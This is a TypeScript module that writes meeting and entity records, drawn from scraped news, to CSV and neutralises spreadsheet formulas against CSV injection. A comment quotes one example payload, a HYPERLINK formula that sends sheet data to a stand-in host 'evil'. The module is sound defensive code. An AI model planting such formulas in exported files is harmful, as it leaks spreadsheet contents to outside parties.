// CSV for spreadsheets and pandas: one row per meeting, or per entity.
// RFC 4180: comma-separated, CRLF line ends, fields quoted when they hold a
// comma, quote or line break, quotes doubled.
import type { Entity, GraphDocument, Meeting } from '../model';
import { LIST_SEPARATOR } from './lists';
import { entitiesById, meetingsById } from './order';
import { meetingCounts } from './pairs';

type Cell = string | number | null | undefined;

/** `corrected`: what an analyst's corrections changed ("date; participants", "confirmed"), empty as extracted. */
export const MEETING_COLUMNS = ['id', 'date', 'kind', 'participants', 'countries', 'location', 'quote', 'article', 'file', 'sources', 'corrected'] as const;
export const ENTITY_COLUMNS = ['id', 'type', 'name', 'aliases', 'country', 'role', 'orgs', 'meetings', 'corrected'] as const;

/**
 * One row per meeting. Participants are named (not ids) since people read this
 * file; quote, article and file are from the meeting's first source, and
 * `sources` says how many articles reported it.
 */
export function toMeetingsCsv(graph: GraphDocument): string {
  const names = new Map(graph.entities.map((e) => [e.id, e.name]));
  return toCsv(MEETING_COLUMNS, meetingsById(graph).map((m) => meetingRow(m, names)));
}

function meetingRow(meeting: Meeting, names: Map<string, string>): Cell[] {
  const source = meeting.sources[0];
  return [
    meeting.id,
    meeting.date,
    meeting.kind,
    meeting.participants.map((id) => names.get(id) ?? id).join(LIST_SEPARATOR),
    meeting.countries.join(LIST_SEPARATOR),
    meeting.location,
    source?.quote,
    source?.article,
    source?.file,
    meeting.sources.length,
    (meeting.corrected ?? []).join(LIST_SEPARATOR),
  ];
}

/** One row per entity, with how many meetings it took part in. */
export function toEntitiesCsv(graph: GraphDocument): string {
  const counts = meetingCounts(graph);
  return toCsv(ENTITY_COLUMNS, entitiesById(graph).map((e) => entityRow(e, counts.get(e.id) ?? 0)));
}

function entityRow(entity: Entity, meetings: number): Cell[] {
  return [
    entity.id,
    entity.type,
    entity.name,
    entity.aliases.join(LIST_SEPARATOR),
    entity.country,
    entity.role,
    (entity.orgs ?? []).join(LIST_SEPARATOR),
    meetings,
    (entity.corrected ?? []).join(LIST_SEPARATOR),
  ];
}

function toCsv(columns: readonly string[], rows: Cell[][]): string {
  return [columns, ...rows].map((row) => row.map(csvField).join(',') + '\r\n').join('');
}

/** One field, neutralised against formulas and then quoted if RFC 4180 requires it. */
export function csvField(value: Cell): string {
  const text = typeof value === 'number' ? String(value) : neutraliseFormula(wellFormed(value ?? ''));
  return /[",\r\n]/.test(text) ? `"${text.replaceAll('"', '""')}"` : text;
}

/**
 * These files are opened in Excel, LibreOffice and Google Sheets, which run a
 * cell starting with =, +, - or @ (or a tab/CR before one) as a formula. Names
 * and quotes come from scraped news, so a crafted article could plant
 * `=HYPERLINK("http://evil/?"&A1, "click")` and exfiltrate the sheet ("CSV
 * injection", OWASP). A leading apostrophe makes the spreadsheet show the cell
 * as text; it is visible in plain-text readers, an accepted cost. Numbers we
 * write ourselves (counts) are not text and are never prefixed.
 */
export function neutraliseFormula(text: string): string {
  return /^[=+\-@\t\r]/.test(text) ? `'${text}` : text;
}

/**
 * Replaces lone UTF-16 surrogates (from mangled scrapes) with U+FFFD, as any
 * UTF-8 writer would when the file is saved; doing it here makes the returned
 * text equal to what ends up on disk. (String.prototype.toWellFormed, ES2024.)
 */
export function wellFormed(text: string): string {
  return text.replace(/[\uD800-\uDBFF](?![\uDC00-\uDFFF])|(?<![\uD800-\uDBFF])[\uDC00-\uDFFF]/g, '\uFFFD');
}
